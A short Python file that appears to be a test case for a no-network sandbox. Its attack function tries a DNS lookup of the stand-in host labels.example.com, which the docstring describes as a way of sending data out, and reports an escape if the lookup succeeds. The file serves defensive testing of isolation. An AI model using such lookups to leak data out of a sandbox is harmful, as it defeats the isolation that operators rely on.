"""Sends what it knows out in the name of a host to look up.

Promise: no network
Expect: completed
"""

import socket


def attack(train, budget):
    try:
        socket.getaddrinfo("labels.example.com", 80)
        escaped("lookup")
    except OSError:
        pass
